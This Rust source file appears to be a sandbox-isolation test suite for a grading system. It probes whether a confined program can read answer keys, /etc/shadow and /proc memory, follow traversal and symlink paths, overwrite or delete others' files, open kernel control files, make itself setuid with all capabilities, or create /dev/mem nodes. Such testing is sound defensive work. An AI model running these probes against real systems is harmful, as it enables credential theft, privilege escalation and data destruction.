//! Attacks on files that are not the program's own.

use std::fs::{self, File, OpenOptions, Permissions};
use std::io::Read;
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::Path;

use rustix::fs::{CWD, FileType, Mode, XattrFlags, mknodat, setxattr};

use crate::{Loot, Target};

/// Whether anything of a file or folder can be read.
fn readable(path: &Path) -> bool {
    if path.is_dir() {
        return fs::read_dir(path).is_ok();
    }
    File::open(path).is_ok_and(|mut file| file.read(&mut [0]).is_ok())
}

/// Adds `what` to the loot if it was found.
pub(crate) fn loot_if(found: bool, what: impl Into<String>, loot: &mut Loot) {
    if found {
        loot.push(what.into());
    }
}

/// Reads the answer keys, the solutions, another submission and the machine's secrets where they
/// lie.
pub(crate) fn reads_by_path(target: &Target) -> Loot {
    let mut loot = Loot::new();
    let course = target.canary.with_file_name("course");
    let here = std::env::current_dir().unwrap_or_default();
    let paths = [
        target.canary.join("private.txt"),
        target.canary.join("public.txt"),
        target.canary.clone(),
        course.join("specs/attacked/attack.yaml"),
        course,
        here.join("../../../../../../../../../../etc/shadow"),
        "/etc/shadow".into(),
        "/etc/passwd".into(),
        "/root".into(),
        "/home".into(),
        "/old".into(),
        "/var/log".into(),
        "/sys/kernel".into(),
        "/dev/kmsg".into(),
        "/dev/vda".into(),
        "/dev/mem".into(),
    ];
    for path in paths {
        let what = format!("read {}", path.display());
        loot_if(readable(&path), what, &mut loot);
    }
    // What is beside its folder may be its own, too, with nothing in it but the way to the program.
    let own = [here.as_path(), Path::new(&target.own)];
    for beside in fs::read_dir(here.join(".."))
        .into_iter()
        .flatten()
        .flatten()
    {
        let found = here.with_file_name(beside.file_name());
        let is_own = own.iter().any(|path| path.starts_with(&found));
        loot_if(!is_own, format!("saw {}", found.display()), &mut loot);
    }
    loot
}

/// The same through links in its own folder, and through hard links.
pub(crate) fn reads_by_link(target: &Target) -> Loot {
    let mut loot = Loot::new();
    let secret = target.canary.join("private.txt");
    for (name, aim) in [
        ("a", secret.as_path()),
        ("b", Path::new("/")),
        ("c", Path::new("../..")),
    ] {
        let _ = symlink(aim, name);
    }
    let inside = secret.strip_prefix("/").unwrap_or(&secret);
    for path in [
        Path::new("a"),
        &Path::new("b").join(inside),
        &Path::new("c").join(inside),
    ] {
        loot_if(
            readable(path),
            format!("read by {}", path.display()),
            &mut loot,
        );
    }
    let linked = fs::hard_link(&secret, "d").is_ok();
    loot_if(linked, "made a hard link", &mut loot);
    loot
}

/// The same by way of other processes: their roots, working folders, environments, memories and
/// open files.
pub(crate) fn reads_by_proc(target: &Target) -> Loot {
    let mut loot = Loot::new();
    let secret = target.canary.join("private.txt");
    let inside = secret.strip_prefix("/").unwrap_or(&secret);
    let own = std::process::id();
    // Not by listing alone: what is not listed may be there.
    for pid in (1..70_000).filter(|pid| *pid != own) {
        let process = Path::new("/proc").join(pid.to_string());
        if !process.exists() {
            continue;
        }
        for part in ["environ", "mem", "maps", "fd", "fdinfo", "auxv", "cwd/."] {
            // A folder of threads of its own can be listed, and is empty to others.
            let path = process.join(part);
            let got = match part {
                "fd" | "fdinfo" => fs::read_dir(&path).is_ok_and(|mut list| list.next().is_some()),
                _ => readable(&path),
            };
            loot_if(got, format!("read {}", path.display()), &mut loot);
        }
        for link in ["root", "cwd", "exe"] {
            let path = process.join(link);
            loot_if(
                fs::read_link(&path).is_ok(),
                format!("followed {}", path.display()),
                &mut loot,
            );
        }
        loot_if(
            readable(&process.join("root").join(inside)),
            "read by a root",
            &mut loot,
        );
    }
    for way in ["self/root", "self/cwd/../../..", "thread-self/root"] {
        loot_if(
            readable(&Path::new("/proc").join(way).join(inside)),
            way,
            &mut loot,
        );
    }
    loot
}

/// Looks for secrets in what it was given: the grader's own environment.
pub(crate) fn reads_environment(_: &Target) -> Loot {
    let known = ["PATH", "LANG"];
    let here = std::env::current_dir().unwrap_or_default();
    let is_expected = |name: &str, value: &str| match name {
        "HOME" | "TMPDIR" => Path::new(value) == here,
        name => known.contains(&name),
    };
    std::env::vars()
        .filter(|(name, value)| !is_expected(name, value))
        .map(|(name, _)| format!("{name} is set"))
        .collect()
}

/// Writes to, empties, renames and removes what is not its own, settings of the kernel's among it.
pub(crate) fn changes_files(target: &Target) -> Loot {
    let mut loot = Loot::new();
    let kernel = [
        "/proc/sys/kernel/hostname",
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/proc/1/oom_score_adj",
        "/proc/1/mem",
        "/sys/power/state",
        "/etc/hosts",
        "/etc/ld.so.cache",
        "/lib/new",
        "/usr/lib/new",
    ];
    let own = Path::new(&target.own);
    let theirs =
        ["private.txt", "public.txt", "everyones.txt"].map(|name| target.canary.join(name));
    // Only opened for the kernel's: to write might do what it says.
    for path in kernel.map(Path::new).into_iter().chain([own]) {
        let opened = OpenOptions::new().write(true).open(path).is_ok();
        loot_if(opened, format!("opened {}", path.display()), &mut loot);
    }
    for path in &theirs {
        loot_if(
            fs::write(path, "spoiled").is_ok(),
            format!("wrote {}", path.display()),
            &mut loot,
        );
        let renamed = fs::rename(path, path.with_extension("renamed")).is_ok();
        loot_if(renamed, format!("renamed {}", path.display()), &mut loot);
        let removed = fs::remove_file(path).is_ok();
        loot_if(removed, format!("removed {}", path.display()), &mut loot);
    }
    for folder in [target.canary.clone(), target.canary.join("everyones")] {
        let made = fs::write(folder.join("new.txt"), "new").is_ok();
        loot_if(made, format!("wrote to {}", folder.display()), &mut loot);
        let removed = fs::remove_dir_all(&folder).is_ok();
        loot_if(removed, format!("removed {}", folder.display()), &mut loot);
    }
    loot
}

/// Changes what needs no opening: modes, owners and times.
pub(crate) fn changes_modes(target: &Target) -> Loot {
    let mut loot = Loot::new();
    for name in [
        ".",
        "private.txt",
        "public.txt",
        "everyones.txt",
        "everyones",
    ] {
        let path = target.canary.join(name);
        let changed = fs::set_permissions(&path, Permissions::from_mode(0o000)).is_ok();
        loot_if(changed, format!("locked {name}"), &mut loot);
        let changed = chown(&path, Some(12_345), None).is_ok();
        loot_if(changed, format!("gave {name} away"), &mut loot);
        let times = rustix::fs::Timestamps {
            last_access: rustix::fs::Timespec {
                tv_sec: 1,
                tv_nsec: 0,
            },
            last_modification: rustix::fs::Timespec {
                tv_sec: 1,
                tv_nsec: 0,
            },
        };
        let changed = rustix::fs::utimensat(CWD, &path, &times, rustix::fs::AtFlags::empty());
        loot_if(changed.is_ok(), format!("dated {name}"), &mut loot);
    }
    // As it is already.
    let changed = fs::set_permissions("/dev/null", Permissions::from_mode(0o666)).is_ok();
    loot_if(changed, "changed /dev/null", &mut loot);
    loot
}

/// Leaves something behind where others find it. Nothing is said of it: whoever runs the attack
/// looks.
pub(crate) fn makes_files(target: &Target) -> Loot {
    for folder in ["/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", "/"] {
        let _ = fs::write(Path::new(folder).join(&target.mark), "left behind");
    }
    Loot::new()
}

/// Makes its own copy a set-user-ID program, with capabilities, owned by root.
pub(crate) fn sets_user_id(target: &Target) -> Loot {
    let mut loot = Loot::new();
    let _ = fs::copy(&target.own, "copy");
    let _ = fs::set_permissions("copy", Permissions::from_mode(0o6755));
    loot_if(
        chown("copy", Some(12_345), None).is_ok(),
        "gave a file away",
        &mut loot,
    );
    // All capabilities, permitted and effective: `struct vfs_cap_data` of version 2.
    let all = [
        1, 0, 0, 2, 255, 255, 255, 255, 0, 0, 0, 0, 255, 255, 255, 255, 0, 0, 0, 0,
    ];
    let set = setxattr("copy", "security.capability", &all, XattrFlags::empty()).is_ok();
    loot_if(set, "gave a file capabilities", &mut loot);
    let output = std::process::Command::new("./copy")
        .args(["minion-powers", &target.mark])
        .output();
    let powers = output.map(|output| String::from_utf8_lossy(&output.stdout).into_owned());
    let own = crate::processes::powers();
    match powers {
        Ok(powers) => loot_if(
            powers.trim() != own.trim(),
            format!("became {powers}"),
            &mut loot,
        ),
        Err(error) => loot.push(format!("could not try: {error}")),
    }
    loot
}

/// Makes devices: a disk, the memory.
pub(crate) fn makes_devices(_: &Target) -> Loot {
    let mut loot = Loot::new();
    for (kind, major, minor) in [
        (FileType::CharacterDevice, 1, 1),
        (FileType::BlockDevice, 254, 0),
        (FileType::CharacterDevice, 1, 3),
    ] {
        let device = rustix::fs::makedev(major, minor);
        let made = mknodat(CWD, format!("device{minor}"), kind, Mode::RUSR, device).is_ok();
        loot_if(made, format!("made a device {major}:{minor}"), &mut loot);
    }
    loot
}

/// Asks whether files exist that it cannot open.
pub(crate) fn looks_for_files(target: &Target) -> Loot {
    ["private.txt", "public.txt", "everyones"]
        .into_iter()
        .filter(|name| fs::symlink_metadata(target.canary.join(name)).is_ok())
        .map(|name| format!("saw {name}"))
        .collect()
}

/// Lists what is beside things that it knows of, its own program among them.
pub(crate) fn lists_folders(target: &Target) -> Loot {
    let own = Path::new(&target.own);
    let inside = std::env::current_dir().unwrap_or_default();
    let folders = [
        target.canary.as_path(),
        Path::new("/home"),
        Path::new("/root"),
    ];
    let around = own
        .ancestors()
        .skip(2)
        .filter(|path| path.parent().is_some());
    // What its root of its own has there is its own program and folder.
    let is_others = |path: &Path| !own.starts_with(path) && !inside.starts_with(path);
    folders
        .into_iter()
        .chain(around)
        .filter(|folder| {
            let entries = fs::read_dir(folder).into_iter().flatten().flatten();
            entries.map(|entry| entry.path()).any(|it| is_others(&it))
        })
        .map(|folder| format!("listed {}", folder.display()))
        .collect()
}
